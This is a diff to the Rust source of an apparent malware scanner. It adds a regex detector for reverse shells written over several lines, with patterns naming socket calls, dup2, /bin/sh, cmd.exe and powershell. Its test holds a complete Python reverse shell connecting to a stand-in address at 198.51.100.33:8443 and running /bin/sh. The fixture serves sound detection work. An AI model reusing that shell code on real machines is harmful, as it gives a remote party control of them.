@@ -11,7 +11,7 @@ use std::sync::LazyLock;
 use regex::{Captures, Regex};
 
 use super::hosts::{HostClass, Target, describe, first_target};
-use super::text::{Context, Place, Segment};
+use super::text::{Context, Document, Place, Segment};
 use super::{Hit, Rule, Severity, Sink, download};
 
 struct Patterns {
@@ -390,6 +390,41 @@ fn password_archive(text: &str, sink: &mut Sink) {
     );
 }
 
+/// A shell wired to a socket over several lines of a script: a socket connected, its
+/// descriptors handed to a process, and a shell (`s.connect(…)`, `os.dup2(s.fileno(), 0)`,
+/// `subprocess.call(["/bin/sh", "-i"])`). Returns (line index, byte offset, finding).
+pub(crate) fn reverse_shell_lines(document: &Document<'_>) -> Option<(usize, usize, Hit)> {
+    const SPAN: usize = 12;
+    static SOCKET: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)socket\.socket\s*\(|socket\.create_connection|new\s+net\.socket|net\.(?:connect|createconnection)\s*\(|tcpclient\s*\(|fsockopen\s*\(|(?-u:\b)socket\s*\(\s*(?:af_inet|pf_inet|socket::)")
+            .expect("the pattern is valid")
+    });
+    static HANDED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)(?-u:\b)dup2\s*\(|pty\.spawn\s*\(|\.pipe\(\s*\w+\.stdin|(?:stdin|stdout)\s*=\s*\w+\.(?:fileno|makefile)|stdio\s*:\s*\[\s*\w+\s*,")
+            .expect("the pattern is valid")
+    });
+    static SHELL: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i)/bin/(?:ba|z|da)?sh(?-u:\b)|cmd\.exe|(?-u:\b)powershell(?-u:\b)|["'](?:ba|z)?sh["']"#)
+            .expect("the pattern is valid")
+    });
+    let text = &document.text;
+    if !text.contains("socket") && !text.contains("net.") && !text.contains("TcpClient") {
+        return None;
+    }
+    let (first, _) = document.near(&[&*SOCKET, &*HANDED, &*SHELL], SPAN)?;
+    let at = SOCKET.find(document.line(first)).map_or(0, |m| m.start());
+    Some((
+        first,
+        at,
+        Hit {
+            rule: Rule::ReverseShell,
+            severity: Severity::Critical,
+            at,
+            message: "a socket is connected, its descriptors are handed to a process and a shell is started: whoever is at the other end controls the machine".to_owned(),
+        },
+    ))
+}
+
 /// Text fetched into a variable: the variable's name is the first group.
 static FETCHED_INTO: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
@@ -632,6 +667,19 @@ mod tests {
             ),
             []
         );
+    }
+
+    #[test]
+    fn reverse_shells_written_over_several_lines_are_found() {
+        let script = "import os, socket, subprocess\n\ndef bridge():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect((\"198.51.100.33\", 8443))\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    subprocess.call([\"/bin/sh\", \"-i\"])\n";
+        let document = Document::read("run.py", script.as_bytes()).unwrap();
+        assert_eq!(
+            reverse_shell_lines(&document).map(|(line, _, hit)| (line, hit.rule)),
+            Some((3, Rule::ReverseShell))
+        );
+        let client = "import socket\ns = socket.socket()\ns.connect((\"localhost\", 5432))\ns.sendall(b\"ping\")\nprint(s.recv(64))\n";
+        let document = Document::read("ping.py", client.as_bytes()).unwrap();
+        assert!(reverse_shell_lines(&document).is_none());
     }
 
     #[test]
